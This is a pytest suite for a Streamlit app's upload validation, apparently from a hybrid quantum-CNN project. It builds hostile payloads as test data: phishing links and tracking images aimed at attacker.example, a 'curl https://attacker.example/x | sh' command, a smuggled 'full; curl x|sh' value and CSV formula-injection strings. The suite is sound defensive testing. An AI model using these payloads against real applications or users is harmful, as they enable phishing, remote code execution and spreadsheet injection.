"""What a browser uploads (a model's metrics.json and config.json, an experiment's results.json) is
checked field by field: each payload below is built here and is refused in plain words, or shown
escaped; CSV downloads never hold a live formula; an upload over the caps is refused up front."""

from __future__ import annotations

import copy
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from hqcnn import checkpoint, schema
from hqcnn import experiments as ex
from hqcnn.datasets_base import ModelMeta
from hqcnn.errors import CheckpointError, HQCNNError
from hqcnn.markdown import WORD_JOINER
from hqcnn.train import run
from tests.conftest import quick_config

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "app.py")
# A results.json the project wrote (the shipped set's smallest study): the base every payload edits.
SHIPPED_RESULT = ROOT / "results" / "shipped" / "paired-full-pneumoniamnist" / "results.json"
PHISH = "[Log in again](https://attacker.example/login)"
IMAGE = "![x](https://attacker.example/pixel.png)"
COMPUTE = {
    "kernels": "pinned",
    "threads": 1,
    "cpu_capability": "AVX2",
    "mkldnn": False,
    "env": {"ATEN_CPU_CAPABILITY": "avx2", "MKL_CBWR": "COMPATIBLE"},
    "torch": "2.13.0+cpu",
    "onednn": None,
}


def shown(text: str) -> str:
    """Escaped Markdown read back as the text it shows."""
    return re.sub(r"\\(.)", r"\1", text).replace(WORD_JOINER, "")


def assert_inert(markdown: str) -> None:
    """No link, image or tag can start in `markdown`: every [ ] ( < is escaped, every URL broken."""
    assert not re.search(r"(?<!\\)[\[\]<]", markdown), markdown
    assert "https://" not in markdown, markdown


# --- a model's files -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def model_files(small_pneumonia) -> tuple[dict[str, bytes], dict]:
    """The files of a real trained model (with calibration) and its metrics as JSON values."""
    outcome = run(quick_config(), data=small_pneumonia, posthoc=True)
    files = checkpoint.to_bytes(
        outcome.result.model,
        outcome.config,
        ModelMeta.from_data(small_pneumonia),
        outcome.metrics_json(),
        outcome.posthoc,
    )
    return files, json.loads(files["metrics.json"])


def load(files: dict[str, bytes], config: dict | bytes | None = None, metrics: dict | bytes | None = None):
    def blob(value, name):
        if value is None:
            return files[name]
        return value if isinstance(value, bytes) else json.dumps(value).encode()

    return checkpoint.from_bytes(files["model.safetensors"], blob(config, "config.json"), blob(metrics, "metrics.json"))


def edited(values: dict, path: str, value) -> dict:
    """A deep copy of `values` with the entry at dotted `path` set to `value`."""
    out = copy.deepcopy(values)
    *parents, last = path.split(".")
    target = out
    for key in parents:
        target = target[key]
    target[last] = value
    return out


def test_a_real_metrics_file_loads_with_a_compute_record(model_files):
    files, metrics = model_files
    assert load(files).metrics == metrics
    assert load(files, metrics={**metrics, "compute": COMPUTE}).metrics["compute"] == COMPUTE


@pytest.mark.parametrize(
    "path,value,message",
    [
        ("test.n", PHISH, "'test.n' must be a whole number"),  # reached the Train page's subheader
        ("params.quantum", IMAGE, "'params.quantum' must be a whole number"),  # reached the model card
        ("test.accuracy", 1e308, "'test.accuracy' must be a number from 0 to 1"),
        ("seconds_per_epoch", [1, 2], "'seconds_per_epoch' must be a number"),
        ("kept", ["a", "list"], "'kept' must be text of at most 300"),
        ("kept", "x" * 301, "'kept' must be text of at most 300"),
        ("stop_reason", {"nested": "object"}, "'stop_reason' must be text"),
        ("test.roc.fpr", [0.0] * 200_001, "'test.roc' must be a ROC curve, or one per class"),
        ("calibration.scaled.ece", -0.1, "'calibration.scaled.ece' must be a number from 0 to 1"),
        ("history", [{"epoch": 1}], r"'history\[0\].train_loss' is missing"),
        ("phishing", PHISH, "'phishing' is not an entry this app writes"),
        ("test.note", PHISH, "'test.note' is not an entry this app writes"),
        ("compute.torch", ["2.13"], "'compute.torch' must be a number, a short text"),
        ("compute.env", {"A": {"deeper": "x"}}, "'compute.env' must be a number, a short text"),
    ],
)
def test_every_metrics_entry_is_checked(model_files, path, value, message):
    files, metrics = model_files
    with pytest.raises(CheckpointError, match=message) as caught:
        load(files, metrics=edited({**metrics, "compute": COMPUTE}, path, value))
    assert "attacker" not in str(caught.value) and len(str(caught.value)) < 300


@pytest.mark.parametrize(
    "blob",
    [
        b'{"test": {"accuracy": NaN}}',
        b'{"seconds": Infinity}',
        b'{"seconds": -Infinity}',
        b'{"seconds": 1e999}',
        b'{"best_epoch": ' + b"9" * 5000 + b"}",
    ],
)
def test_numbers_that_are_not_finite_are_refused(model_files, blob):
    with pytest.raises(CheckpointError, match="not valid JSON, or holds a number that is not finite"):
        load(model_files[0], metrics=blob)


@pytest.mark.parametrize("name", ["metrics.json", "config.json"])
@pytest.mark.parametrize("depth", [schema.MAX_DEPTH + 1, 100_000])
def test_deep_nesting_is_a_plain_error(model_files, name, depth):
    blob = b"[" * depth + b"]" * depth
    with pytest.raises(CheckpointError, match="nested too deeply"):
        load(model_files[0], **{name.split(".")[0]: blob})


def _posthoc(files: dict[str, bytes], change) -> dict:
    header = json.loads(files["config.json"])
    change(header["posthoc"])
    return header


@pytest.mark.parametrize(
    "change,message",
    [
        (lambda p: p.update(threshold=0), "decision threshold must be a number from 0.01 to 0.99"),
        (lambda p: p.update(threshold=1), "decision threshold must be a number from 0.01 to 0.99"),
        (lambda p: p["ood"].update(threshold=1e300), "threshold must be a number from 0 to 1e"),
    ],
)
def test_the_posthoc_section_is_held_to_what_the_app_can_use(model_files, change, message):
    files = model_files[0]
    assert json.loads(files["config.json"])["posthoc"]["ood"] is not None  # the detector is there to edit
    with pytest.raises(CheckpointError, match=message):
        load(files, config=_posthoc(files, change))


def test_an_infinite_unusual_image_threshold_is_refused(model_files):
    files = model_files[0]
    text = json.dumps(_posthoc(files, lambda p: p["ood"].update(threshold=12345.5)))
    with pytest.raises(CheckpointError, match="not finite"):
        load(files, config=text.replace("12345.5", "Infinity").encode())


def test_thresholds_the_slider_offers_load_and_round_trip(model_files):
    files = model_files[0]
    for value in (0.01, 0.99):
        assert load(files, config=_posthoc(files, lambda p, v=value: p.update(threshold=v))).posthoc.threshold == value
    saved = load(files)
    assert saved.posthoc.with_threshold(0.0).threshold == 0.01 and saved.posthoc.with_threshold(1.0).threshold == 0.99


# --- an experiment's results.json ----------------------------------------------------------------


@pytest.fixture(scope="module")
def result_values() -> dict:
    return json.loads(SHIPPED_RESULT.read_text(encoding="utf-8"))


def upload(values: dict | str | bytes) -> ex.ExperimentResult:
    text = values if isinstance(values, (str, bytes)) else json.dumps(values)
    return ex.ExperimentResult.from_json_text(text, "The uploaded file")


def test_a_result_the_project_wrote_loads_unchanged_with_a_compute_record(result_values):
    result = upload({**result_values, "compute": COMPUTE})
    assert result.config == result_values["config"] and result.preset == result_values["preset"]
    assert result.command == result_values["command"]  # rebuilt from the settings: the same command
    assert result.compute == COMPUTE and len(result.table) == len(result_values["rows"])


def _row(values: dict, **changes) -> dict:
    return {**values, "rows": [{**values["rows"][0], **changes}, *values["rows"][1:]]}


@pytest.mark.parametrize(
    "change,message",
    [
        (lambda v: edited(v, "config.model.n_qubits", PHISH), "'config.model.n_qubits' must be a whole number from 2"),
        (lambda v: edited(v, "config.model.depth", IMAGE), "'config.model.depth' must be a whole number from 1 to 8"),
        (lambda v: edited(v, "config.model.depth", 9), "'config.model.depth' must be a whole number from 1 to 8"),
        (lambda v: edited(v, "config.model.entangler", "$\\color{red}{x}$"), "one of ring, chain, none"),
        (lambda v: edited(v, "config.model.depth", 10**400), "'config.model.depth' must be a whole number"),
        (lambda v: edited(v, "config.model.channels", [8, [16]]), r"'config.model.channels\[1\]' must be a whole"),
        (lambda v: edited(v, "config.phishing", PHISH), "'config.phishing' is not an entry this app writes"),
        (lambda v: edited(v, "preset.name", "full; curl x|sh"), "'preset.name' must be text of at most 40"),
        (lambda v: {**v, "extra": 1}, "'extra' is not an entry this app writes"),
        (lambda v: {**v, "command": "x" * 2001}, "'command' must be text of at most 2,000"),
        (lambda v: {**v, "seconds": 1e308}, "'seconds' must be a number from 0 to"),
        (lambda v: {**v, "notes": ["x"] * (ex.results.MAX_NOTES + 1)}, "'notes' must be a list of 0 to 50 items"),
        (lambda v: {**v, "notes": ["x" * 2001]}, r"'notes\[0\]' must be text of at most 2,000"),
        (lambda v: {**v, "versions": {"torch": ["2"]}}, "'versions.torch' must be text"),
        (lambda v: _row(v, condition=["a", "list"]), "something other than a number"),
        (lambda v: _row(v, model={"a": 1}), "something other than a number"),
        (lambda v: _row(v, auc=1.5), "auc that is not a score from 0 to 1"),
        (lambda v: _row(v, accuracy=True), "accuracy that is not a score from 0 to 1"),
        (lambda v: _row(v, seconds=1e308), "something other than a number"),
        (lambda v: _row(v, seed="0"), "seed that is not a whole number"),
        (lambda v: _row(v, condition=PHISH), "unexpected label"),
        (lambda v: _row(v, **{"Bad Column": 1}), "a column that is not one this app writes"),
        (lambda v: _row(v, study="ablations"), "another study"),
    ],
)
def test_every_results_entry_is_checked(result_values, change, message):
    with pytest.raises(HQCNNError, match=message) as caught:
        upload(change(result_values))
    assert "attacker" not in str(caught.value) and len(str(caught.value)) < 500


@pytest.mark.parametrize("number", ["NaN", "Infinity", "1e999"])
def test_results_with_numbers_that_are_not_finite_are_refused(result_values, number):
    text = json.dumps(_row(result_values, accuracy=0.123456789)).replace("0.123456789", number)
    with pytest.raises(HQCNNError, match="not finite"):
        upload(text)


def test_deeply_nested_results_are_a_plain_error(result_values):
    just_too_deep = {**result_values, "notes": json.loads("[" * schema.MAX_DEPTH + "]" * schema.MAX_DEPTH)}
    for payload in (just_too_deep, "[" * 200_000 + "]" * 200_000):
        with pytest.raises(HQCNNError, match="nested too deeply"):
            upload(payload)


def test_results_over_the_caps_are_refused_before_any_work(result_values):
    rows = [{**result_values["rows"][0], "seed": i} for i in range(ex.results.MAX_ROWS + 1)]
    with pytest.raises(HQCNNError, match=r"2,001 result rows; this app shows at most 2,000"):
        upload({**result_values, "rows": rows})
    with pytest.raises(HQCNNError, match="too large"):
        upload(b" " * (ex.results.MAX_RESULT_BYTES + 1))


def test_the_command_shown_is_rebuilt_from_the_settings(result_values):
    result = upload({**result_values, "command": "curl https://attacker.example/x | sh"})
    assert result.command == "python -m hqcnn experiment paired --preset full --dataset pneumoniamnist --seed 0"
    assert "curl" not in result.json_text()  # nor written back into a download
    custom = upload(edited(edited(result_values, "config.model.n_qubits", 3), "preset.name", "my-preset"))
    assert custom.command == (
        "python -m hqcnn experiment paired --preset my-preset --dataset pneumoniamnist --seed 0 --qubits 3"
        " --features 8  # custom preset: see 'preset' in results.json"
    )


def test_summary_and_comparisons_are_computed_once_per_table(result_values):
    result = upload(result_values)
    assert result.comparisons[0] is result.comparisons[0]
    assert result.memo("figures", lambda: ex.figures(result)) is result.memo("figures", lambda: {})
    first = result.summary
    first.iloc[0, 0] = "changed by a caller"
    assert result.summary.iloc[0, 0] != "changed by a caller"  # each caller gets its own copy
    result.table = result.table.iloc[:4]  # a new table: computed anew
    assert len(result.summary) == 2 and result.comparisons[0].n == 2  # two seeds of each model


FORMULAS = ['=HYPERLINK("https://attacker.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_csv_downloads_never_hold_a_live_formula(result_values):
    values = copy.deepcopy(result_values)
    for row, formula in zip(values["rows"], FORMULAS, strict=False):
        row["condition"] = formula
    result = upload(values)
    for text in (result.csv_text(), result.summary_csv_text()):
        cells = [cell for line in text.splitlines() for cell in line.split(",")]
        assert not any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in cells), text[:500]
        assert "'=HYPERLINK" in text and "'-2+3" in text and "'@SUM(A1)" in text
    numbers = ex.records_to_csv([{"label": "=1+2", "difference": -0.5, "note": "-x"}])
    assert numbers == "label,difference,note\n'=1+2,-0.5,'-x\n"  # numbers stay numbers, negative ones too
    assert ex.records_to_csv([{"=cmd": 1}]).startswith("'=cmd")


# --- the pages -----------------------------------------------------------------------------------


def open_page(page: str, monkeypatch, tmp_path, **session) -> AppTest:
    monkeypatch.setenv(ex.SHIPPED_ENV, str(tmp_path / "no-shipped-set"))  # open on this session's runs
    at = AppTest.from_file(APP, default_timeout=180)
    for key, value in session.items():
        at.session_state[key] = value
    at.run()
    at.switch_page(page).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_the_experiments_page_shows_an_uploaded_result_escaped(result_values, monkeypatch, tmp_path):
    values = {
        **result_values,
        "command": "curl https://attacker.example/x | sh",
        "notes": [f"{PHISH} {IMAGE} :red[alarm] $x^2$"],
        "finished_at": IMAGE,
        "preset": {**result_values["preset"], "description": PHISH},
    }
    result = upload(values)
    at = open_page("pages/5_Experiments.py", monkeypatch, tmp_path, experiment_results={result.name: result})
    assert not at.error, [e.value for e in at.error]
    assert [c.value for c in at.code] == [
        "python -m hqcnn experiment paired --preset full --dataset pneumoniamnist --seed 0  # custom preset: see "
        "'preset' in results.json"
    ]
    captions = [c.value for c in at.caption]
    header = next(c for c in captions if " rows · finished " in c)
    assert "model 4 qubits, depth 2" in header
    note = next(c for c in captions if "Log in again" in shown(c))
    assert_inert(header)
    assert_inert(note)
    assert shown(note) == values["notes"][0] and "\\$x" in note


def test_the_train_page_shows_an_uploaded_models_text_escaped(model_files, monkeypatch, tmp_path):
    from ui.training import HYBRID, TrainedModel

    files, metrics = model_files
    crafted = {**metrics, "kept": PHISH, "stop_reason": IMAGE}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, blob in {**files, "metrics.json": json.dumps(crafted).encode()}.items():
            archive.writestr(name, blob)
    saved = TrainedModel.from_checkpoint(checkpoint.from_zip(buffer.getvalue()))
    at = open_page("pages/3_Train.py", monkeypatch, tmp_path, models={HYBRID: saved})
    assert not at.error, [e.value for e in at.error]
    assert any(f"({metrics['test']['n']} test images)" in h.value for h in at.subheader)
    results = next(c.value for c in at.caption if "Majority-class baseline" in c.value)
    warning = next(w.value for w in at.warning if "pixel" in w.value)
    assert_inert(results)
    assert_inert(warning)
    assert PHISH in shown(results) and shown(warning) == IMAGE
    card = next(m.value for m in at.markdown if m.value.startswith("# Model card"))
    kept = next(line for line in card.splitlines() if "Log in again" in line)
    assert_inert(kept)
